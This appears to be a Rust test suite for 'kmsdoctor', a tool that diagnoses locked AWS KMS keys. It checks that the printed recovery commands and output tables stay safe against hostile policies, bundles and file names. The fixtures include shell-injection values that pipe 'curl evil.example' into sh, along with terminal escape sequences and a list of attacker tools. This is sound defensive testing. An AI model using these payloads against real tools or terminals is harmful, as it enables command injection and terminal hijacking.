//! Hostile input: what others wrote (policies, bundles, file names) never runs in the shell
//! of the engineer who pastes the recovery plan, and never drives their terminal.

use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};

use assert_cmd::Command;

const KEY: &str = "arn:aws:kms:us-east-1:111122223333:key/1234abcd-12ab-34cd-56ef-1234567890ab";

fn kmsdoctor(args: &[&str]) -> (i32, String, String) {
    let out = Command::cargo_bin("kmsdoctor")
        .expect("binary")
        .args(args)
        .env("NO_COLOR", "1")
        .output()
        .expect("run");
    (
        out.status.code().unwrap_or(-1),
        String::from_utf8_lossy(&out.stdout).into_owned(),
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )
}

/// A folder of stub programs: `aws` and `kmsdoctor` record their arguments, one per line;
/// anything an attacker would call (`curl`, `id`, `sh`, `rm`...) leaves a marker.
struct Stubs {
    dir: tempfile::TempDir,
}

impl Stubs {
    fn new() -> Stubs {
        let dir = tempfile::tempdir().unwrap();
        let record = |name: &str| {
            let p = dir.path().join(name);
            std::fs::write(
                &p,
                format!(
                    "#!/bin/sh\nfor a in \"$@\"; do printf '%s\\n' \"$a\"; done >> '{}/{name}.args'\n",
                    dir.path().display()
                ),
            )
            .unwrap();
            std::fs::set_permissions(&p, std::fs::Permissions::from_mode(0o755)).unwrap();
        };
        record("aws");
        record("kmsdoctor");
        for evil in [
            "curl", "wget", "id", "sh", "bash", "rm", "cat", "touch", "nc", "python3",
        ] {
            let p = dir.path().join(evil);
            std::fs::write(
                &p,
                format!("#!/bin/sh\ntouch '{}/PWNED'\n", dir.path().display()),
            )
            .unwrap();
            std::fs::set_permissions(&p, std::fs::Permissions::from_mode(0o755)).unwrap();
        }
        Stubs { dir }
    }

    /// Runs a printed command as a person would paste it, with only the stubs on PATH.
    fn paste(&self, command: &str) {
        let status = std::process::Command::new("/bin/sh")
            .arg("-c")
            .arg(command)
            .env_clear()
            .env("PATH", self.dir.path())
            .current_dir(self.dir.path())
            .status()
            .unwrap();
        let _ = status;
        assert!(
            !self.dir.path().join("PWNED").exists(),
            "pasting `{command}` ran another program"
        );
    }

    fn args(&self, program: &str) -> Vec<String> {
        std::fs::read_to_string(self.dir.path().join(format!("{program}.args")))
            .unwrap_or_default()
            .lines()
            .map(str::to_string)
            .collect()
    }
}

fn commands(json: &str) -> Vec<String> {
    let v: serde_json::Value = serde_json::from_str(json).unwrap_or_else(|e| panic!("{e}: {json}"));
    v["recovery_plan"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|s| s["command"].as_str().map(str::to_string))
        .collect()
}

fn fixture(rel: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("fixtures")
        .join(rel)
}

/// A file name with shell syntax in it reaches the re-run command quoted: pasted, it passes
/// the name to kmsdoctor whole, and runs nothing else.
#[test]
fn a_hostile_file_name_is_quoted() {
    let dir = tempfile::tempdir().unwrap();
    let name = dir.path().join("my policy;$(id)`id`'x'.json");
    std::fs::copy(
        fixture("scenarios/09-deny-except-break-glass/policy.json"),
        &name,
    )
    .unwrap();
    let (code, out, err) = kmsdoctor(&[
        "why-locked",
        KEY,
        "--policy-file",
        name.to_str().unwrap(),
        "--output",
        "json",
    ]);
    assert_eq!(code, 3, "{err}");
    let stubs = Stubs::new();
    let cmds = commands(&out);
    assert!(!cmds.is_empty());
    for c in &cmds {
        stubs.paste(c);
    }
    let args = stubs.args("kmsdoctor");
    assert!(args.contains(&name.display().to_string()), "{args:?}");
    assert!(args.contains(&"--policy-file".to_string()), "{args:?}");
}

/// A principal whose ARN carries shell syntax, a newline and a fake prompt line: it is never
/// put into a command (the step says why), and the table shows the newline escaped.
#[test]
fn a_hostile_principal_never_reaches_a_command_or_the_terminal_raw() {
    let dir = tempfile::tempdir().unwrap();
    let evil = "arn:aws:iam::111122223333:role/x;curl${IFS}evil.example|sh;#\n     $ aws kms put-key-policy --bypass";
    let policy = serde_json::json!({
        "Version": "2012-10-17",
        "Statement": [{
            "Sid": "Admin\u{1b}[2J\u{1b}]0;owned\u{7}",
            "Effect": "Allow",
            "Principal": {"AWS": evil},
            "Action": "kms:*",
            "Resource": "*"
        }]
    });
    let p = dir.path().join("policy.json");
    std::fs::write(&p, policy.to_string()).unwrap();
    let (code, out, err) = kmsdoctor(&[
        "why-locked",
        KEY,
        "--policy-file",
        p.to_str().unwrap(),
        "--output",
        "json",
    ]);
    assert!(code == 3 || code == 4, "{code} {err}");
    let stubs = Stubs::new();
    for c in commands(&out) {
        assert!(!c.contains("curl"), "{c}");
        stubs.paste(&c);
    }
    let (_, table, _) = kmsdoctor(&["why-locked", KEY, "--policy-file", p.to_str().unwrap()]);
    assert!(
        !table.contains('\u{1b}') && !table.contains('\u{7}'),
        "{table}"
    );
    assert!(
        !table.lines().any(|l| l
            .trim_start()
            .starts_with("$ aws kms put-key-policy --bypass")),
        "a fake command line reached the table:\n{table}"
    );
}

/// A bundle whose key ARN or region holds a command is refused on load, naming the field.
#[test]
fn a_hostile_bundle_is_refused() {
    let dir = tempfile::tempdir().unwrap();
    let good: serde_json::Value = serde_json::json!({
        "kind": "kmsdoctor-evidence-bundle",
        "schema_version": 1,
        "collected_at": "2026-11-23T00:00:00Z",
        "region": "us-east-1",
        "key_input": KEY,
        "key": {"id": "1234abcd-12ab-34cd-56ef-1234567890ab", "arn": KEY, "account": "111122223333", "region": "us-east-1"},
        "caller": {"arn": "arn:aws:iam::111122223333:role/Admin", "account": "111122223333", "user_id": "AROAEXAMPLE"},
        "caller_principal_arn": null,
        "key_facts": {"resolved_by": "describe_key", "creation_date": null, "key_state": null, "key_manager": null, "policy": null, "policy_error": "AccessDeniedException: denied", "aliases": null, "problems": []},
        "records": [],
        "lookup": {"calls": 0, "pages": 0, "records": 0, "unreadable": 0, "complete": true, "problems": []},
        "existence": {},
        "simulation": null,
        "problems": []
    });
    let ok_path = dir.path().join("ok.json");
    std::fs::write(&ok_path, good.to_string()).unwrap();
    let (code, _, err) = kmsdoctor(&["why-locked", "--from", ok_path.to_str().unwrap(), KEY]);
    assert_eq!(code, 5, "the untouched bundle is read: {err}");
    for (pointer, value) in [
        ("/key/arn", "arn:aws:kms:us-east-1:111122223333:key/1234abcd-12ab-34cd-56ef-1234567890ab; curl evil.example | sh; #"),
        ("/key/region", "us-east-1; curl evil.example | sh; #"),
        ("/region", "us-east-1`id`"),
    ] {
        let mut b = good.clone();
        let (head, field) = pointer.rsplit_once('/').unwrap();
        if head.is_empty() {
            b[field] = serde_json::json!(value);
        } else {
            b[&head[1..]][field] = serde_json::json!(value);
        }
        let p = dir.path().join("evil.json");
        std::fs::write(&p, b.to_string()).unwrap();
        let (code, out, err) = kmsdoctor(&["why-locked", "--from", p.to_str().unwrap(), KEY]);
        assert_eq!(code, 1, "{pointer}: {out}{err}");
        assert!(err.contains("evil.json"), "{err}");
        assert!(err.contains(&format!("(at {pointer})")), "{err}");
        assert!(out.is_empty(), "{out}");
    }
}

/// `check` and `explain` tables (CI logs, terminals) show control characters escaped, from
/// Sids, principals and condition values alike.
#[test]
fn check_and_explain_tables_escape_control_characters() {
    let dir = tempfile::tempdir().unwrap();
    let policy = serde_json::json!({
        "Version": "2012-10-17",
        "Statement": [
            {"Sid": "Open\u{1b}[32m Verdict: ok\u{1b}[0m", "Effect": "Allow", "Principal": "*",
             "Action": "kms:Decrypt", "Resource": "*"},
            {"Sid": "X\u{9b}2J", "Effect": "Deny", "Principal": "*", "Action": "kms:*", "Resource": "*",
             "Condition": {"StringEquals\u{7}": {"aws:SourceIp\u{202e}": "1.2.3.4"}}}
        ]
    });
    let p = dir.path().join("evil\u{1b}]0;title\u{7}.json");
    std::fs::write(&p, policy.to_string()).unwrap();
    let (_, out, err) = kmsdoctor(&["check", p.to_str().unwrap(), "--account", "111122223333"]);
    for s in [&out, &err] {
        assert!(
            !s.chars()
                .any(|c| c == '\u{1b}' || c == '\u{7}' || c == '\u{9b}' || c == '\u{202e}'),
            "{s}"
        );
    }
    assert!(out.contains("\\u{1b}"), "{out}");
    let (_, out, err) = kmsdoctor(&[
        "explain",
        "--policy-file",
        p.to_str().unwrap(),
        "--principal",
        "arn:aws:iam::111122223333:role/App",
        "--action",
        "kms:Decrypt",
    ]);
    for s in [&out, &err] {
        assert!(
            !s.chars()
                .any(|c| c == '\u{1b}' || c == '\u{7}' || c == '\u{9b}'),
            "{s}"
        );
    }
}

/// An error that names a hostile file shows the name escaped.
#[test]
fn errors_escape_the_file_names_they_quote() {
    let dir = tempfile::tempdir().unwrap();
    let p = dir.path().join("x\u{1b}[2J.json");
    std::fs::write(&p, "{ not json").unwrap();
    let (code, _, err) = kmsdoctor(&["why-locked", KEY, "--policy-file", p.to_str().unwrap()]);
    assert_eq!(code, 1, "{err}");
    assert!(!err.contains('\u{1b}'), "{err}");
    assert!(err.contains("x\\u{1b}[2J.json"), "{err}");
}
